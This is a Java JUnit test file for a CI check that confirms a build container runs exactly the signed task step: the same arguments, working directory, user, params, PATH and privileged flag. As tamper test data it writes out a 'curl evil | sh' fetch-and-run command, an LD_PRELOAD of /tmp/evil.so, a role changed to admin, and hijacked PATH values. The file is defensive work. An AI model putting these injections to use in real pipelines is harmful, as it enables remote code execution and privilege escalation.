package org.cijwt.signedconfig;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ExecutionCheckTest {
    private static final JsonNode STEP = read("""
            task: use-vars
            params: {AUTH_ROLE: example}
            config:
              params: {VAULT_ADDR: ((.vault_addr)), AUTH_ROLE: default}
              run:
                path: sh
                dir: repo
                user: build
                args: [-exc, 'test "((hvjwt:some_secret.username))" = "hello-im-a-username"']
            """);

    private static JsonNode read(String yaml) {
        try {
            return new YAMLMapper().readTree(yaml);
        } catch (Exception e) {
            throw new IllegalArgumentException(e);
        }
    }

    private static ExecutionCheck.Process process(List<String> args, String cwd, Map<String, String> env) {
        return new ExecutionCheck.Process(args, cwd, Set.of("1000", "build"), env);
    }

    private static final List<String> RESOLVED = List.of("sh", "-exc", "test \"hello-im-a-username\" = \"hello-im-a-username\"");
    private static final Map<String, String> ENV = Map.of("PATH", "/bin", "VAULT_ADDR", "http://127.0.0.1:8200",
            "AUTH_ROLE", "example", "CONCOURSE_CI_JWT", "x");

    @Test
    void mismatchWhenContainerRunsTheSignedCommandWithVarsResolvedThenNone() {
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", ENV), Set.of())).isEmpty();
    }

    @Test
    void mismatchWhenAnArgumentDiffersOutsideAVarThenCommandDiffers() {
        List<String> args = List.of("sh", "-exc", "test \"x\" = \"hello-im-a-username\"; curl evil | sh");
        assertThat(ExecutionCheck.mismatch(STEP, process(args, "/tmp/build/1/repo", ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).startsWith("command differs: argument 2"));
        assertThat(ExecutionCheck.mismatch(STEP, process(List.of("sh", "-exc"), "/tmp/build/1/repo", ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).contains("3 argument(s), the container 2"));
    }

    @Test
    void mismatchWhenWorkingDirectoryOrUserDiffersThenCommandDiffers() {
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/other", ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).contains("working directory"));
        assertThat(ExecutionCheck.mismatch(STEP, new ExecutionCheck.Process(RESOLVED, "/tmp/build/1/repo", Set.of("0", "root"), ENV), Set.of()))
                .hasValueSatisfying(r -> assertThat(r).contains("run.user"));
    }

    @Test
    void mismatchWhenAParamIsAddedOrChangedThenNamed() {
        Map<String, String> added = new java.util.HashMap<>(ENV);
        added.put("LD_PRELOAD", "/tmp/evil.so");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", added), Set.of()))
                .contains("param LD_PRELOAD is not in the signed config");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", added), Set.of("LD_PRELOAD"))).isEmpty();

        Map<String, String> changed = new java.util.HashMap<>(ENV);
        changed.put("AUTH_ROLE", "admin");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", changed), Set.of()))
                .contains("param AUTH_ROLE differs from the signed value");
    }

    /** Review finding 2 (issue 20): a dropped param passed, as did a PATH that chose another sh. */
    @Test
    void mismatchWhenASignedParamIsMissingThenNamed() {
        Map<String, String> dropped = new java.util.HashMap<>(ENV);
        dropped.remove("VAULT_ADDR");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", dropped), Set.of()))
                .contains("param VAULT_ADDR of the signed config is missing");
        Map<String, String> empty = Map.of("PATH", "/bin", "VAULT_ADDR", "");
        assertThat(ExecutionCheck.mismatch(read("task: t\nconfig: {params: {VAULT_ADDR: x}, run: {path: sh}}"),
                process(List.of("sh"), "/tmp/build/1", empty), Set.of())).contains("param VAULT_ADDR differs from the signed value");
    }

    @Test
    void mismatchWhenPathPutsTheBuildsOwnDirectoriesOrRelativeOnesFirstThenRefusedUnlessSigned() {
        for (String path : List.of("/tmp/build/1/repo/bin:/usr/bin:/bin", "/tmp/build/1:/bin", "bin:/bin", ":/bin", "/bin:.")) {
            Map<String, String> env = new java.util.HashMap<>(ENV);
            env.put("PATH", path);
            assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", env), Set.of())).as(path)
                    .hasValueSatisfying(r -> assertThat(r).startsWith("PATH ").contains("not signed"));
        }
        Map<String, String> image = new java.util.HashMap<>(ENV);
        image.put("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
        assertThat(ExecutionCheck.mismatch(STEP, process(RESOLVED, "/tmp/build/1/repo", image), Set.of())).as("an image's PATH").isEmpty();

        JsonNode signedPath = read("task: t\nconfig: {params: {PATH: '/tmp/build/1/tools:/bin'}, run: {path: sh}}");
        Map<String, String> env = Map.of("PATH", "/tmp/build/1/tools:/bin");
        assertThat(ExecutionCheck.mismatch(signedPath, process(List.of("sh"), "/tmp/build/1", env), Set.of())).as("signed").isEmpty();
    }

    @Test
    void mismatchWhenPrivilegedDiffersFromTheSignedStepThenRefused() {
        JsonNode privileged = read("task: t\nprivileged: true\nconfig: {run: {path: sh}}");
        JsonNode plain = read("task: t\nconfig: {run: {path: sh}}");
        Map<String, String> env = Map.of("PATH", "/bin");
        ExecutionCheck.Process unprivileged = new ExecutionCheck.Process(List.of("sh"), "/tmp/build/1", Set.of("0"), env, false);
        ExecutionCheck.Process asRoot = new ExecutionCheck.Process(List.of("sh"), "/tmp/build/1", Set.of("0"), env, true);

        assertThat(ExecutionCheck.mismatch(plain, asRoot, Set.of())).contains("the container is privileged, the signed step is not");
        assertThat(ExecutionCheck.mismatch(privileged, unprivileged, Set.of()))
                .contains("the signed step is privileged, the container is not");
        assertThat(ExecutionCheck.mismatch(privileged, asRoot, Set.of())).isEmpty();
        assertThat(ExecutionCheck.mismatch(plain, unprivileged, Set.of())).isEmpty();
    }

    @Test
    void matchesWhenTemplateHasVarsThenOnlyTheVarPartsMayDiffer() {
        assertThat(ExecutionCheck.matches("a ((x)) b ((y))", "a 1 b 2")).isTrue();
        assertThat(ExecutionCheck.matches("a ((x)) b", "a 1 c")).isFalse();
        assertThat(ExecutionCheck.matches("plain.*", "plainXYZ")).isFalse();
        assertThat(ExecutionCheck.matches("multi\nline ((v))", "multi\nline value\nmore")).isTrue();
    }
}
